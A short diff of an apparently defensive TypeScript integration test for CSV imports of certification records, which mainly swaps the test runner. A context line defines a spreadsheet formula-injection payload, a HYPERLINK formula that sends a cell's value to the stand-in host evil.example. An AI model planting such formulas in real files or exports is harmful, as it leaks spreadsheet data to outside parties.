@@ -1,4 +1,4 @@
-import { medusaIntegrationTestRunner } from "@medusajs/test-utils"
+import { runMedusaSuite } from "../../fixtures/medusa-suite"
 import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
 import { generateSyntheticRows, parseCertificationBuffer, writeSyntheticCsv, type CertificationRecord } from "@ocop/seed"
 import { mkdtempSync, readFileSync } from "node:fs"
@@ -28,7 +28,7 @@ async function syntheticRecords(count: number, seed: number): Promise<Certificat
 const INTERNAL_ID = /\b[a-z]+_[0-9A-HJKMNP-TV-Z]{26}\b/
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
-medusaIntegrationTestRunner({
+runMedusaSuite({
   testSuite: ({ api, getContainer }) => {
     let headers: Record<string, string>
     const tally = createAttackTally("imports")
